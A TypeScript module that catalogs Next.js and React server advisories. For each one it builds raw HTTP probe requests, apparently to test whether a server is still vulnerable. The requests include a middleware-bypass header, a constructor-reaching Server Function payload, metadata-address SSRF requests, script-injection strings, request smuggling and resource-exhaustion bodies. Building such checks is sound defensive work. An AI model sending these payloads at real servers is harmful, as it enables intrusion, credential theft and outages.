/** A request that exploits an advisory. */
interface Probe {
  readonly attack: string
  /** The request of an ordinary visitor that gets the same answer; `null` if the attack never reaches the renderer. */
  readonly ordinary: string | null
}

/** An advisory about a server with Next or React. */
export interface Advisory {
  readonly id: string
  readonly title: string
  /** The first fixed versions: of the 16 line of Next if it was affected, and of the 19.2 line of React. */
  readonly fixed: { readonly next?: string; readonly react?: string }
  readonly probes: readonly Probe[]
}

const HOST = 'Host: localhost\r\n'
const CLOSE = 'Connection: close\r\n'

const get = (target: string, headers = ''): string => `GET ${target} HTTP/1.1\r\n${HOST}${CLOSE}${headers}\r\n`
const post = (target: string, headers: string, body: string): string =>
  `POST ${target} HTTP/1.1\r\n${HOST}${CLOSE}Content-Length: ${Buffer.byteLength(body)}\r\n${headers}\r\n${body}`

/** A page that answers the same with additional headers, a changed target, or both. */
const likeAny = (headers: string, target = '/premium'): Probe => ({
  attack: get(target, headers),
  ordinary: get('/premium'),
})
const unreached = (attack: string): Probe => ({ attack, ordinary: null })
const image = (query: string, headers = ''): Probe => unreached(get(`/_next/image?${query}`, headers))
const upgrade = (target: string, headers = ''): Probe =>
  unreached(
    `GET ${target} HTTP/1.1\r\n${HOST}Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n${headers}\r\n`,
  )

const FORM = 'Content-Type: application/x-www-form-urlencoded\r\nOrigin: http://localhost\r\n'
const MULTIPART =
  'Content-Type: multipart/form-data; boundary=planted-0123456789-0123456789\r\nOrigin: http://localhost\r\n'
const ACTION = 'Next-Action: 40a5b1c2d3e4f5a6b7c8d9e0f1a2b3c4d5e6f7a8b9\r\n'
const part = (name: string, text: string): string =>
  `--planted-0123456789-0123456789\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${text}\r\n`

/** Calls of a Server Function, with this payload, on a page, and on a form and an endpoint, which read no such header. */
const serverFunction = (payload: string, headers = ''): readonly Probe[] => {
  const body = `${part('0', payload)}${part('1', '"$@0"')}--planted-0123456789-0123456789--\r\n`
  return [
    unreached(post('/privacy', `${MULTIPART}${ACTION}${headers}`, body)),
    ...['/renew', '/buy'].map((target) => ({
      attack: post(target, `${MULTIPART}${ACTION}${headers}`, body),
      ordinary: post(target, MULTIPART, body),
    })),
  ]
}

/** Payloads of the public descriptions: a thenable that reaches a constructor, cyclic references, and a nested bound function. */
const THENABLE =
  '{"then":"$1:__proto__:then","status":"resolved_model","value":"{\\"then\\":\\"$B0\\"}","_response":{"_prefix":"planted","_formData":{"get":"$1:constructor:constructor"}}}'
const CYCLE = '{"then":"$0:then","value":"$0"}'
const NESTED = `${'["$K1",'.repeat(400)}0${']'.repeat(400)}`
const BOUND = '{"id":"planted","bound":"$F1"}'
const MAPS = `{"a":"$Q1","b":"$W1","c":[${'"$Q1",'.repeat(400)}0]}`

/** A request in the body of another one. */
const SMUGGLED = get('/planted')
const RESUME = 'Next-Resume: 1\r\nContent-Type: application/octet-stream\r\n'

/**
 * The published advisories of 2025 and 2026 about servers with Next or React, as of 23 November 2026. docs/advisories.md lists them for
 * readers, with the sources.
 */
export const ADVISORIES: readonly Advisory[] = [
  {
    id: 'CVE-2024-56332',
    title: 'a Server Action that never ends occupies a connection (published in January 2025)',
    fixed: { next: '15.1.2' },
    probes: serverFunction('"$@1"'),
  },
  {
    id: 'CVE-2025-29927',
    title: 'a header skips the middleware',
    fixed: { next: '15.2.3' },
    probes: [
      likeAny(`X-Middleware-Subrequest: ${Array(5).fill('middleware').join(':')}\r\n`),
      likeAny(`X-Middleware-Subrequest: ${Array(5).fill('src/middleware').join(':')}\r\n`),
    ],
  },
  {
    id: 'CVE-2025-30218',
    title: 'the id of a subrequest leaks to other hosts',
    fixed: { next: '15.2.4' },
    probes: [likeAny('X-Middleware-Subrequest-Id: planted\r\n')],
  },
  {
    id: 'CVE-2025-32421',
    title: 'a race fills the cache with page data in place of HTML',
    fixed: { next: '15.1.6' },
    probes: [likeAny('X-Now-Route-Matches: 1=premium\r\nX-NextJS-Data: 1\r\n', '/premium?__nextDataReq=1')],
  },
  {
    id: 'CVE-2025-48068',
    title: 'another origin reads the development server',
    fixed: { next: '15.2.2' },
    probes: [upgrade('/_next/webpack-hmr', 'Origin: http://evil.example\r\n')],
  },
  {
    id: 'CVE-2025-49005',
    title: 'a cache serves an RSC payload in place of HTML, because Vary is missing',
    fixed: { next: '15.3.3' },
    probes: [likeAny('RSC: 1\r\n'), likeAny('RSC: 1\r\n', '/premium?_rsc=planted')],
  },
  {
    id: 'CVE-2025-49826',
    title: 'an empty answer (204) is cached for a static page',
    fixed: { next: '15.1.8' },
    probes: [likeAny('RSC: 1\r\nNext-Router-Prefetch: 1\r\nNext-Router-Segment-Prefetch: /planted\r\n')],
  },
  {
    id: 'CVE-2025-55173',
    title: 'the image optimizer sends foreign content',
    fixed: { next: '15.4.5' },
    probes: [image('url=https%3A%2F%2Fevil.example%2Fplanted.svg&w=64&q=75')],
  },
  {
    id: 'CVE-2025-57752',
    title: "the image optimizer caches one visitor's image for others",
    fixed: { next: '15.4.5' },
    probes: [image('url=%2Foffers&w=64&q=75', 'Cookie: session=planted\r\nAuthorization: Bearer planted\r\n')],
  },
  {
    id: 'CVE-2025-57822',
    title: 'a middleware that forwards request headers requests any address',
    fixed: { next: '15.4.7' },
    probes: [likeAny('Location: http://169.254.169.254/latest/meta-data/\r\n')],
  },
  {
    id: 'CVE-2025-55182',
    title: 'a Server Function call runs code; CVE-2025-66478 in Next',
    fixed: { next: '16.0.7', react: '19.2.1' },
    probes: serverFunction(THENABLE),
  },
  {
    id: 'CVE-2025-55183',
    title: 'a Server Function call returns source code',
    fixed: { next: '16.0.10', react: '19.2.3' },
    probes: serverFunction(BOUND),
  },
  {
    id: 'CVE-2025-55184',
    title: 'a Server Function call never ends; completed by CVE-2025-67779',
    fixed: { next: '16.0.10', react: '19.2.3' },
    probes: serverFunction(CYCLE),
  },
  {
    id: 'CVE-2025-59471',
    title: 'the image optimizer loads large remote images into memory',
    fixed: { next: '16.1.5' },
    probes: [image('url=https%3A%2F%2Fcdn.example%2Fhuge.png&w=3840&q=100')],
  },
  {
    id: 'CVE-2025-59472',
    title: 'a resume request of Partial Prerendering fills the memory',
    fixed: { next: '16.1.5' },
    probes: [unreached(post('/privacy', RESUME, 'planted'))],
  },
  {
    id: 'CVE-2026-23864',
    title: 'a Server Function call exhausts CPU or memory',
    fixed: { next: '16.1.5', react: '19.2.4' },
    probes: serverFunction(NESTED),
  },
  {
    id: 'CVE-2026-27977',
    title: 'an origin `null` reaches the WebSocket of the development server',
    fixed: { next: '16.1.7' },
    probes: [upgrade('/_next/webpack-hmr', 'Origin: null\r\n')],
  },
  {
    id: 'CVE-2026-27978',
    title: 'an origin `null` passes the origin check of Server Actions',
    fixed: { next: '16.1.7' },
    probes: [unreached(post('/privacy', `${ACTION}${FORM.replace('http://localhost', 'null')}`, 'a=b'))],
  },
  {
    id: 'CVE-2026-27979',
    title: 'a resume request fills the memory outside minimal mode',
    fixed: { next: '16.1.7' },
    probes: [unreached(post('/privacy', RESUME, '1:planted'))],
  },
  {
    id: 'CVE-2026-27980',
    title: 'the cache of the image optimizer fills the disk',
    fixed: { next: '16.1.7' },
    probes: [image('url=%2Ficon.svg&w=16&q=1'), image('url=%2Ficon.svg&w=17&q=2')],
  },
  {
    id: 'CVE-2026-29057',
    title: 'DELETE or OPTIONS with chunked coding smuggles a request through a rewrite',
    fixed: { next: '16.1.7' },
    probes: ['DELETE', 'OPTIONS'].map((method) =>
      unreached(
        `${method} /premium HTTP/1.1\r\n${HOST}${CLOSE}Transfer-Encoding: chunked\r\n\r\n${SMUGGLED.length.toString(16)}\r\n${SMUGGLED}\r\n0\r\n\r\n`,
      ),
    ),
  },
  {
    id: 'CVE-2026-23869',
    title: 'a Server Function call occupies the CPU for a minute',
    fixed: { next: '16.2.3', react: '19.2.5' },
    probes: serverFunction(MAPS),
  },
  {
    id: 'CVE-2026-23870',
    title: 'a Server Function call exhausts the server (fourth fix)',
    fixed: { next: '16.2.5', react: '19.2.6' },
    probes: serverFunction(`[${CYCLE},${NESTED}]`),
  },
  {
    id: 'CVE-2026-44572',
    title: 'a header turns a redirect of the middleware into a cacheable answer without a location',
    fixed: { next: '16.2.5' },
    probes: [likeAny('X-NextJS-Data: 1\r\n')],
  },
  {
    id: 'CVE-2026-44573',
    title: 'page data without a locale skip the middleware',
    fixed: { next: '16.2.5' },
    probes: [unreached(get('/_next/data/planted/premium.json', 'X-NextJS-Data: 1\r\n'))],
  },
  {
    id: 'CVE-2026-44574',
    title: 'a query changes the parameters of a dynamic route behind the middleware',
    fixed: { next: '16.2.5' },
    probes: [likeAny('', '/premium?nxtPsite=de&nxtPview=planted&nxtPpage=plus&page=plus&site=de')],
  },
  {
    id: 'CVE-2026-44575',
    title: 'addresses of segment prefetches skip the middleware',
    fixed: { next: '16.2.5' },
    probes: [
      { attack: get('/premium.rsc', 'RSC: 1\r\n'), ordinary: get('/no-such-page') },
      { attack: get('/premium.segments/_tree.segment.rsc'), ordinary: get('/no-such-page') },
    ],
  },
  {
    id: 'CVE-2026-45109',
    title: 'the same with Turbopack, after an incomplete fix',
    fixed: { next: '16.2.6' },
    probes: [
      { attack: get('/premium.segments/!KGEp/_index.segment.rsc', 'RSC: 1\r\n'), ordinary: get('/no-such-page') },
      likeAny('RSC: 1\r\nNext-Router-Prefetch: 2\r\nNext-Router-Segment-Prefetch: /_tree\r\n'),
    ],
  },
  {
    id: 'CVE-2026-44576',
    title: 'a shared cache serves an RSC answer at the address of a page',
    fixed: { next: '16.2.5' },
    probes: [likeAny('RSC: 1\r\nNext-Url: /planted\r\nNext-Router-State-Tree: %5B%22planted%22%5D\r\n')],
  },
  {
    id: 'CVE-2026-44577',
    title: 'the image optimizer loads large local files into memory',
    fixed: { next: '16.2.5' },
    probes: [image('url=%2F_next%2Fstatic%2Fchunks%2Fmain.js&w=3840&q=100')],
  },
  {
    id: 'CVE-2026-44578',
    title: 'a WebSocket upgrade in absolute form requests any address',
    fixed: { next: '16.2.5' },
    probes: [upgrade('http://169.254.169.254/latest/meta-data/'), upgrade('/premium')],
  },
  {
    id: 'CVE-2026-44579',
    title: 'requests to Cache Components keep connections open',
    fixed: { next: '16.2.5' },
    probes: [unreached(post('/privacy', `${RESUME}${ACTION}`, 'planted'))],
  },
  {
    id: 'CVE-2026-44580',
    title: 'a text of the request ends a script with `beforeInteractive`',
    fixed: { next: '16.2.5' },
    probes: [likeAny('', '/premium?planted=%3C/script%3E%3Cscript%3Ealert(1)%3C/script%3E')],
  },
  {
    id: 'CVE-2026-44581',
    title: 'a policy in a request header puts HTML into the nonce of scripts',
    fixed: { next: '16.2.5' },
    probes: [likeAny(`Content-Security-Policy: script-src 'nonce-"><script>alert(1)</script>'\r\n`)],
  },
  {
    id: 'CVE-2026-44582',
    title: 'colliding cache keys of RSC requests',
    fixed: { next: '16.2.5' },
    probes: [likeAny('RSC: 1\r\n', '/premium?_rsc=1a2b3')],
  },
  {
    id: 'CVE-2026-64641',
    title: 'a call of a Server Action occupies the CPU',
    fixed: { next: '16.2.11' },
    probes: serverFunction(`{"a":${NESTED},"b":${NESTED}}`),
  },
  {
    id: 'CVE-2026-64642',
    title: 'the middleware is skipped with Turbopack and one locale',
    fixed: { next: '16.2.11' },
    probes: [
      { attack: get('/en/premium'), ordinary: get('/no-such-page') },
      unreached(get('/_next/data/planted/en/premium.json')),
    ],
  },
  {
    id: 'CVE-2026-64643',
    title: 'the ids of Server Functions are public',
    fixed: { next: '16.2.11' },
    probes: [
      unreached(get('/_next/server/server-reference-manifest.json')),
      unreached(get('/_next/static/planted/versions.json')),
    ],
  },
  {
    id: 'CVE-2026-64644',
    title: 'an SVG occupies the image optimizer',
    fixed: { next: '16.2.11' },
    probes: [image('url=https%3A%2F%2Fcdn.example%2Fslow.svg&w=3840&q=75')],
  },
  {
    id: 'CVE-2026-64645',
    title: 'the host of a rewrite or redirect comes from the request',
    fixed: { next: '16.2.11' },
    probes: [
      likeAny('X-Forwarded-Host: 169.254.169.254\r\n', '/premium?host=169.254.169.254'),
      unreached('GET /premium HTTP/1.1\r\nHost: 169.254.169.254\r\n\r\n'),
    ],
  },
  {
    id: 'CVE-2026-64646',
    title: 'the payload of a Server Action has no limit in the Edge runtime',
    fixed: { next: '16.2.11' },
    probes: [
      unreached(
        post(
          '/buy',
          `${MULTIPART}${ACTION}`,
          `${part('0', 'a'.repeat(64 * 1_024))}--planted-0123456789-0123456789--\r\n`,
        ),
      ),
    ],
  },
  {
    id: 'CVE-2026-64647',
    title: 'bodies with invalid UTF-8 share an entry of the cache',
    fixed: { next: '16.2.11' },
    probes: [unreached(post('/privacy', 'Content-Type: text/plain\r\n', 'a\ufffdb'))],
  },
  {
    id: 'CVE-2026-64648',
    title: 'requests with bodies share an entry of the cache',
    fixed: { next: '16.2.11' },
    probes: [unreached(post('/privacy', 'Content-Type: application/json\r\n', '{"planted":true}'))],
  },
  {
    id: 'CVE-2026-64649',
    title: 'a Server Action on a custom server requests the host that the request names',
    fixed: { next: '16.2.11' },
    probes: [
      ...serverFunction('[]', 'X-Forwarded-Host: 169.254.169.254\r\n'),
      unreached(`POST /buy HTTP/1.1\r\nHost: 169.254.169.254\r\n${CLOSE}${ACTION}${FORM}Content-Length: 3\r\n\r\na=b`),
    ],
  },
  {
    id: 'CVE-2026-44907',
    title: 'a Server Function call exhausts the server (fifth fix)',
    fixed: { next: '16.2.11', react: '19.2.8' },
    probes: serverFunction(`[${MAPS},${CYCLE}]`),
  },
  {
    id: 'GHSA-2xp9-vwfh-vxw4',
    title: 'an AVIF picture runs code in the image optimizer',
    fixed: { next: '16.3.3' },
    probes: [image('url=https%3A%2F%2Fcdn.example%2Fplanted.avif&w=64&q=75', 'Accept: image/avif\r\n')],
  },
  {
    id: 'CVE-2026-75604',
    title: 'a path with backslashes leaves the cache folder on Windows',
    fixed: { next: '16.3.3' },
    probes: [
      { attack: get('/..%5c..%5c..%5cplanted'), ordinary: get('/no-such-page') },
      { attack: get('/premium%5c..%5cplanted', 'RSC: 1\r\n'), ordinary: get('/no-such-page') },
    ],
  },
]
